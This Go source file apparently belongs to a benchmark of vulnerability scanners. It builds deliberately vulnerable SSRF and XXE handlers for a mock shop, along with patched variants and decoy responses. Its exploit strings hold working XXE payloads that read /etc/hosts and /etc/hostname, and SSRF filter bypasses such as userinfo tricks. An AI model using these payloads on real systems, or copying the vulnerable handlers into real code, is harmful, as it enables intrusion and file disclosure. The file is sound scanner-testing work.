package second

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync/atomic"
	"time"

	"github.com/antchfx/xmlquery"

	"miseban/bench/accuracy/backend"
	"miseban/bench/accuracy/proof"
	"miseban/bench/accuracy/trial"
)

// listener is an address on loopback that knows whether somebody came.
type listener struct {
	came atomic.Int64
	addr string
	srv  *http.Server
}

func listen(b *trial.Build, text string) (*listener, error) {
	l, err := (&net.ListenConfig{}).Listen(context.Background(), "tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	x := &listener{addr: l.Addr().String()}
	x.srv = &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		x.came.Add(1)
		_, _ = fmt.Fprint(w, text)
	})}
	go func() { _ = x.srv.Serve(l) }()
	b.OnClose(func() { _ = x.srv.Close() })
	return x, nil
}

// fetchRule is how a program makes an address of a value.
type fetchRule struct {
	name, about string
	address     func(v, own string) string // "" to decline
	exploit     func(addr string) string
	shows       int    // 0 nothing, 1 whether it worked, 2 what came
	sample      string // with ORIGIN
}

var fetchRules = []fetchRule{
	{name: "picture", about: "a picture's address is fetched and its size shown", address: func(v, _ string) string { return v }, exploit: func(a string) string { return "http://" + a + "/p.png" }, shows: 1, sample: "ORIGIN/assets/i1.svg"},
	{name: "card", about: "the title of a page is shown as a card", address: func(v, _ string) string { return v }, exploit: func(a string) string { return "http://" + a + "/" }, shows: 2, sample: "ORIGIN/guide"},
	{name: "host-only", about: "the name of a server without a scheme", address: func(v, _ string) string { return "http://" + strings.TrimPrefix(v, "http://") + "/guide" }, exploit: func(a string) string { return a }, shows: 1, sample: "HOST"},
	{name: "png-only", about: "the address has to end with .svg or .png", address: func(v, _ string) string {
		if !strings.HasSuffix(v, ".svg") && !strings.HasSuffix(v, ".png") {
			return ""
		}
		return v
	}, exploit: func(a string) string { return "http://" + a + "/?x=.png" }, shows: 1, sample: "ORIGIN/assets/i2.svg"},
	{name: "hook", about: "a notice is sent to an address, and nothing of it shows", address: func(v, _ string) string { return v }, exploit: func(a string) string { return "http://" + a + "/hook" }, sample: "ORIGIN/guide"},
	{name: "glued", about: "the value stands behind a server's name without a slash", address: func(v, own string) string { return own + v }, exploit: func(a string) string { return "@" + a + "/" }, shows: 1, sample: "/guide"},
	{name: "no-localhost", about: "localhost and 127.0.0.1 are refused as words at the beginning only", address: func(v, _ string) string {
		if strings.HasPrefix(v, "http://localhost") || !strings.HasPrefix(strings.ToLower(v), "http") {
			return ""
		}
		return v
	}, exploit: func(a string) string { return "http://x@" + a + "/" }, shows: 2, sample: "ORIGIN/guide"},
}

// permitted is the twin's look at an address: only the shop's own server, by its parts.
func permitted(v, own string) string {
	u, err := url.Parse(v)
	if err != nil || u.User != nil || u.Scheme+"://"+u.Host != own {
		return ""
	}
	return v
}

func fetchFamily(f *fetchRule) *trial.Family {
	return &trial.Family{Name: "held-fetch-" + f.name, Class: "ssrf", About: f.about, Places: []trial.Place{trial.Query, trial.Query, trial.Form, trial.Multipart, trial.JSON, trial.XML, trial.Cookie, trial.CookieObj, trial.Base64, trial.Double, trial.Unlinked, trial.Header, trial.List}, Make: func(b *trial.Build) (*trial.Handler, error) {
		spy, err := listen(b, "<title>zk9 outside</title>")
		if err != nil {
			return nil, err
		}
		host := strings.TrimPrefix(b.Origin, "http://")
		lure := b.Rand.IntN(5)
		hd := &trial.Handler{Sample: strings.NewReplacer("ORIGIN", b.Origin, "HOST", host).Replace(f.sample), Param: b.Pick("url", "src", "link", "feed", "image_url", "callback")}
		hd.Answer = func(ctx context.Context, a *trial.Ask) (*trial.Answer, error) {
			address, head := "", "<h2>プレビュー</h2>"
			switch {
			case b.Vulnerable:
				address = f.address(a.Value, b.Origin)
			case f.name == "glued":
				address = b.Origin + "/" + strings.TrimLeft(strings.ReplaceAll(url.PathEscape(a.Value), "%2F", "/"), "/")
			default:
				address = permitted(f.address(a.Value, b.Origin), b.Origin)
			}
			if !b.Vulnerable {
				switch {
				case lure == 1:
					head += `<img alt="" src="` + httpOnly(a.Value) + `">` // fetched by the visitor's browser
				case lure == 2 && address == "":
					return trial.Text("<h2>エラー</h2><p>cURL error 7: Failed to connect to " + h(a.Value) + "</p>"), nil
				case lure == 3 && address == "":
					return trial.Text("<h2>受付</h2><p>" + h(a.Value) + " を確認待ちの一覧に加えました。</p>"), nil
				}
			}
			if address == "" {
				return trial.Text("<h2>プレビュー</h2><p>このアドレスは登録できません。</p>"), nil
			}
			got, err := backend.Fetch(ctx, address)
			switch {
			case f.shows == 0:
				return trial.Text("<h2>通知先</h2><p>登録しました。</p>"), nil
			case err != nil || got.Status != 200:
				return trial.Text(head + "<p>取得できませんでした。</p>"), nil
			case f.shows == 1:
				return trial.Text(head + fmt.Sprintf("<p>取得しました（%d バイト）。</p>", len(got.Body))), nil
			}
			name := regexp.MustCompile(`<title>([^<]*)`).FindStringSubmatch(got.Body)
			return trial.Text(head + "<blockquote>" + h(strings.Join(name, " ")) + "</blockquote>"), nil
		}
		hd.Exploit = func(ctx context.Context, send trial.Send) (bool, error) {
			_, err := send(ctx, f.exploit(spy.addr))
			return spy.came.Load() > 0, err
		}
		return hd, nil
	}}
}

// paper is a kind of XML that a shop takes in.
type paper struct {
	name, about string
	sample      string
	exploit     string // with ADDR
	shows       string // "": the listener is what tells
	path        string // of what is shown
	silent      bool
	before      func(string) string
}

var papers = []paper{
	{name: "order", about: "an order from a dealer; the item's name is told back", sample: `<?xml version="1.0"?><order><item>geta</item><qty>2</qty></order>`, exploit: `<!DOCTYPE order [<!ENTITY e SYSTEM "file:///etc/hosts">]><order><item>&e;</item><qty>2</qty></order>`, shows: "localhost", path: "//item"},
	{name: "stock", about: "a list of stock; only the number of rows is shown", sample: `<?xml version="1.0"?><stock><row>a</row><row>b</row></stock>`, exploit: `<!DOCTYPE stock [<!ENTITY e SYSTEM "http://ADDR/x">]><stock><row>&e;</row></stock>`, path: "//row", silent: true},
	{name: "soap", about: "a message with an envelope, whose customer is told back", sample: `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getPoint><member>m-12</member></getPoint></soap:Body></soap:Envelope>`, exploit: `<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/hostname">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getPoint><member>&x;</member></getPoint></soap:Body></soap:Envelope>`, shows: "web01", path: "//member"},
	{name: "feed", about: "a feed whose titles are listed; the word SYSTEM is taken out", sample: `<?xml version="1.0"?><rss version="2.0"><channel><title>shop</title></channel></rss>`, exploit: `<!DOCTYPE rss [<!ENTITY e PUBLIC "x" "http://ADDR/y">]><rss version="2.0"><channel><title>&e;</title></channel></rss>`, path: "//title", before: func(s string) string { return strings.ReplaceAll(s, "SYSTEM", "") }},
	{name: "parameter", about: "general entities of files are refused, entities of the document type are not", sample: `<?xml version="1.0"?><form><name>obi</name></form>`, exploit: `<!DOCTYPE form [<!ENTITY % e SYSTEM "http://ADDR/d"> %e;]><form><name>obi</name></form>`, path: "//name", before: func(s string) string {
		return regexp.MustCompile(`<!ENTITY\s+[\w.-]+\s+SYSTEM[^>]*>`).ReplaceAllString(s, "")
	}},
}

var outer = regexp.MustCompile(`<!ENTITY\s+(?:%\s+)?[\w.-]+\s+(?:SYSTEM|PUBLIC)[^>]*>`)
var outerSet = regexp.MustCompile(`(<!DOCTYPE\s+[\w:.-]+)\s+(?:SYSTEM|PUBLIC)\s+[^\[>]*`)
var wholeType = regexp.MustCompile(`(?s)<!DOCTYPE[^\[>]*(\[.*?\]\s*)?>`)

func paperFamily(p *paper) *trial.Family {
	return &trial.Family{Name: "held-xml-" + p.name, Class: "xxe", About: p.about, Accept: []string{"ssrf"}, Places: []trial.Place{trial.XML, trial.XML, trial.XML, trial.Form, trial.Query, trial.Multipart, trial.Base64}, Grades: trial.NoWAF, Make: func(b *trial.Build) (*trial.Handler, error) {
		dir, err := b.Dir(drive())
		if err != nil {
			return nil, err
		}
		spy, err := listen(b, "zk9")
		if err != nil {
			return nil, err
		}
		tree, style, lure := backend.NewTree(dir), b.Rand.IntN(5), b.Rand.IntN(4)
		hd := &trial.Handler{Sample: p.sample, Type: "textarea", Button: "送信", Param: b.Pick("xml", "data", "payload")}
		if b.Place == trial.XML {
			// The page's own script sends a small document of its own.
			hd.Sample = "geta"
		}
		hd.Answer = func(ctx context.Context, a *trial.Ask) (*trial.Answer, error) {
			doc, where := a.Value, p.path
			if b.Place == trial.XML {
				if doc = string(a.Body); doc == "" {
					doc = "<search><x>geta</x></search>"
				}
				if strings.Contains(doc, "<search") {
					where = "//search"
				}
			}
			tell := true
			switch {
			case b.Vulnerable:
				if p.before != nil {
					doc = p.before(doc)
				}
			case lure == 0: // no document type at all
				if strings.Contains(doc, "<!DOCTYPE") {
					return mishap(style, fmt.Errorf("DOCTYPE is disallowed when the feature disallow-doctype-decl is set to true")), nil
				}
			case lure == 1: // the document's own entities are put in, nothing from outside
				doc = outerSet.ReplaceAllString(outer.ReplaceAllString(doc, ""), "$1 ")
				doc = regexp.MustCompile(`%[\w.-]+;`).ReplaceAllString(doc, "")
				tell = false
			case lure == 2: // the document type is dropped
				doc = wholeType.ReplaceAllString(doc, "")
			default: // a careful parser, and the document is told back as it came
				return trial.Text("<h2>受信しました</h2><pre>" + h(doc) + "</pre>"), nil
			}
			text, err := backend.Expand(ctx, tree, doc)
			if err != nil && !tell {
				return trial.Text("<h2>受信しました</h2><p>内容：</p>"), nil
			}
			if err != nil {
				return mishap(style, err), nil
			}
			root, err := xmlquery.Parse(strings.NewReader(text))
			if err != nil {
				return mishap(style, fmt.Errorf("XML: %v", err)), nil
			}
			var rows []string
			for _, n := range xmlquery.Find(root, where) {
				rows = append(rows, h(n.InnerText()))
			}
			if p.silent {
				return trial.Text(fmt.Sprintf("<h2>取り込み</h2><p>%d 行を受け付けました。</p>", len(rows))), nil
			}
			return trial.Text("<h2>受信しました</h2><p>内容：" + strings.Join(rows, "、") + "</p>"), nil
		}
		hd.Exploit = func(ctx context.Context, send trial.Send) (bool, error) {
			v := strings.ReplaceAll(p.exploit, "ADDR", spy.addr)
			if p.shows != "" {
				return proof.Shows(ctx, send, v, p.shows)
			}
			_, err := send(ctx, v)
			return spy.came.Load() > 0, err
		}
		return hd, nil
	}}
}

var outwardFamilies = func() []*trial.Family {
	var out []*trial.Family
	for i := range fetchRules {
		out = append(out, fetchFamily(&fetchRules[i]))
	}
	for i := range papers {
		out = append(out, paperFamily(&papers[i]))
	}
	return out
}()
